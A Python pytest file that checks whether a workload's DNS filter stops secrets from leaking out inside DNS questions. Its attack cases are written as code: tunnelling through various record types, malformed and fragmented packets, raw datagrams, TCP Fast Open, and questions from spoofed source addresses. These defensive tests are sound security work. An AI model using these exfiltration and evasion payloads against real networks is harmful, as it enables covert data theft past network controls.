"""Attacks by DNS questions: data in names that no rule allows, and questions whose answer goes to somebody else.

Each leaves the pod where its defence is switched off, and does not where it is on. Whether data can hide in
names at all is for `dns.onlyAllowedNames`; by default questions are not filtered.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from tests.network.test_attacks_packets import COMMON
from tests.topology import DNS4, DNS6

SECRET = b"the secret"
FLAG = "only allowed names may be asked for"
QUESTION = "one readable question, from an address of its own"
STRANGER4, STRANGER6 = "203.0.113.5", "2001:db8:66::66"

ASK = f"""{COMMON}
    DNS4, DNS6, STRANGER4, STRANGER6 = {(DNS4, DNS6, STRANGER4, STRANGER6)!r}
    def question(name="the-secret.tunnel.test", kind="A"):
        return bytes(DNSRecord.question(name, kind).pack()).replace(b"the-secret", secret)
    def from_stranger(family, level, option, resolver, stranger):
        sock = socket.socket(family, socket.SOCK_DGRAM)
        sock.setsockopt(level, option, 1)
        sock.bind((stranger, 0))
        return sock.sendto(question(), (resolver, 53))
    allowed = question("example.com")
"""


@dataclass(frozen=True)
class Attack:
    """`code` sends a question with the secret in it; `only_allowed` says whether names are checked at all."""

    name: str
    code: str
    without: str = FLAG
    reason: str = "QUESTION_REFUSED"
    only_allowed: bool = True
    capabilities: tuple[str, ...] = ()


def raw(name: str, code: str, reason: str = "QUESTION_REFUSED", without: str = FLAG) -> Attack:
    return Attack(name, code, without, reason, capabilities=("net_raw",))


ATTACKS = [
    *[
        Attack(f"a question for {kind}", f"udp(DNS4, 53).send(question(kind={kind!r}))")
        for kind in ("A", "AAAA", "TXT", "NULL", "CNAME", "ANY")
    ],
    Attack("a question over IPv6", "udp(DNS6, 53).send(question())"),
    Attack(
        "random names below an allowed one's sister", "udp(DNS4, 53).send(question('the-secret.example.net'))"
    ),
    Attack("an allowed name in front", "udp(DNS4, 53).send(question('example.com.the-secret.test'))"),
    Attack(
        "a question in pieces", "s = udp(DNS4, 53); s.send(question()[:9], 0x8000); s.send(question()[9:])"
    ),
    Attack(
        "two questions",
        "udp(DNS4, 53).send(allowed[:5] + bytes([2]) + allowed[6:] + question()[12:])",
        reason="QUESTION_UNREADABLE",
    ),
    Attack("none", "udp(DNS4, 53).send(bytes(12) + secret)", reason="QUESTION_UNREADABLE"),
    Attack("no DNS", "udp(DNS4, 53).send(secret)", reason="QUESTION_UNREADABLE"),
    Attack(
        "a message of another kind",
        "udp(DNS4, 53).send(allowed[:2] + bytes([0x28]) + allowed[3:] + secret)",
        reason="QUESTION_UNREADABLE",
    ),
    Attack(
        "an answer",
        "udp(DNS4, 53).send(allowed[:2] + bytes([0x80]) + allowed[3:] + secret)",
        reason="QUESTION_UNREADABLE",
    ),
    Attack(
        "a compressed name",
        "udp(DNS4, 53).send(allowed[:12] + bytes([0xc0, 18, 0, 1, 0, 1]) + question()[12:])",
        reason="QUESTION_UNREADABLE",
    ),
    Attack("over TCP", "s = tcp(); s.connect((DNS4, 53)); s.send(question())", reason="QUESTION_UNREAD"),
    Attack(
        "over TCP, on the first packet",
        "s = socket.socket(); s.setsockopt(6, socket.TCP_SYNCNT, 1); "
        "s.sendto(question(), socket.MSG_FASTOPEN, (DNS4, 53)); s.settimeout(1); s.recv(1)",
        reason="QUESTION_UNREAD",
    ),
    raw("a raw datagram", "ipv4(DNS4, datagram_to(53, question()))"),
    raw(
        "a raw segment",
        "ipv4(DNS4, bytes([9, 9, 0, 53]) + bytes(8) + b'P0' + bytes(6) + secret, protocol=6)",
        "QUESTION_UNREAD",
    ),
    raw(
        "behind an extension header",
        "ipv6(DNS6, 60, bytes([17, 0, 1, 4, 0, 0, 0, 0]) + datagram_to(53, question()))",
    ),
    raw(
        "in fragments",
        "ipv4(DNS4, datagram_to(53, question()), fragment=0x2000)",
        "FRAGMENT",
        "every header is read",
    ),
    Attack(
        "behind an allowed one, in one buffer that the kernel cuts",
        "each = max(len(allowed), len(question())); "
        "udp().sendmsg([allowed.ljust(each, b'.') + question().ljust(each, b'.')], "
        "[(17, 103, struct.pack('=H', each))], 0, (DNS4, 53))",
        QUESTION,
        "QUESTION_UNREADABLE",
    ),
    Attack(
        "from a stranger's address, IPV6_FREEBIND",
        "from_stranger(10, 41, 78, DNS6, STRANGER6)",
        QUESTION,
        "SPOOFED",
        only_allowed=False,
    ),
    Attack(
        "from a stranger's address, IP_TRANSPARENT",
        "from_stranger(2, 0, 19, DNS4, STRANGER4)",
        QUESTION,
        "SPOOFED",
        only_allowed=False,
        capabilities=("net_raw",),
    ),
    Attack(
        "from a stranger's address, by hand",
        "ipv4(DNS4, datagram_to(53, question()), source=STRANGER4)",
        QUESTION,
        "SPOOFED",
        only_allowed=False,
        capabilities=("net_raw",),
    ),
]


@pytest.mark.parametrize("defended", [False, True], ids=["the defence switched off", "defended"])
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name.replace(" ", "_"))
def test_ATTACK_a_question_that_tells_a_secret(arena, spy, attack, defended):
    only_allowed = attack.only_allowed and (defended or attack.without != FLAG)
    without = "" if defended or attack.without == FLAG else attack.without
    workload = arena.workload(
        "example.com", resolvers=(DNS4, DNS6), only_allowed_names=only_allowed, without=without
    )
    before = workload.counters()
    spy.seen()
    body = "".join(f"        {line}\n" for line in attack.code.split("; "))
    told = workload.attack(
        f"{ASK}\n    def attack():\n{body}    fall(attack)\n", capabilities=attack.capabilities
    )
    got_out = any(SECRET in packet for packet in spy.seen())
    assert got_out != defended, told
    if defended:
        assert (workload.counters() - before)[attack.reason] > 0, workload.counters() - before
